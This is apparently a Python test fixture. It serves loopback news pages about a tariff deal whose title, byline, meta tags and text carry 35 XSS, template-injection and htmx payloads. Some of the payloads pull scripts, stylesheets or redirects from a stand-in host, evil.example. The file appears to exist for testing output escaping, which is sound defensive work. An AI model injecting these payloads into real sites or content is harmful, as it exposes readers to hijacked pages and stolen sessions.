"""Articles whose titles, authors, addresses and texts try to run a script in whoever reads them, on a site of our own."""

from __future__ import annotations

import html
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

HOST = "payloads.example"

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>read</a>",
    "<form action=//evil.example><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "{{ 7*7 }}{{ config }}",
    "{% for x in range(9) %}x{% endfor %}",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1) data-hx-get=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x.png)>",
    "&lt;img src=x onerror=alert(1)&gt;",
)
"""At least 33 ways by which stored text became a script elsewhere: tags, attributes, closers, templates, htmx' own attributes."""

TEXT = (
    "The two governments agreed on Monday to cut tariffs on rice and rubber, and exporters said that the trade agreement would help them.",
    "Officials of both ministries of commerce said that rules of origin would be settled before the end of the year, and that quotas stay.",
    "Exports to the neighbour rose by a tenth last year, the chamber of commerce said, and imports of fuel and machines fell slightly.",
)


def page(number: int) -> bytes:
    """The article with this payload in title, author, description and text."""
    payload = PAYLOADS[number]
    shown = html.escape(payload)
    data = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": f"Tariffs {payload}",
        "author": {"name": f"Ann {payload}"},
    }
    state = json.dumps(data).replace("<", "\\u003c")
    paragraphs = "".join(f"<p>{sentence} {number} {word}</p>" for sentence in TEXT for word in (f"Part {number}.", f"Quote: {shown} end."))
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>Tariffs {shown}</title>"
        f'<meta name=author content="Ann {shown}"><meta name=description content="{shown}"><meta property=og:site_name content="{shown}">'
        f"<script type=application/ld+json>{state}</script></head><body><article><h1>Tariffs {shown}</h1>"
        f"<p class=byline>By Ann {shown}</p>{paragraphs}</article></body></html>"
    ).encode()


def addresses(port: int) -> list[str]:
    """One address a payload, with the payload in its query too."""
    return [f"http://{HOST}:{port}/{number}?q={quote(payload)}" for number, payload in enumerate(PAYLOADS)]


@contextmanager
def payload_site() -> Iterator[int]:
    """The site on loopback until the block ends; yields its port."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, name="payload-site", daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        name = self.path.partition("?")[0].strip("/")
        known = name.isdigit() and int(name) < len(PAYLOADS)
        body = page(int(name)) if known else b"User-agent: *\nAllow: /\n" if name == "robots.txt" else b"Not found"
        self.send_response(200 if known or name == "robots.txt" else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8" if known else "text/plain; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is the standard library's
        """Silent."""
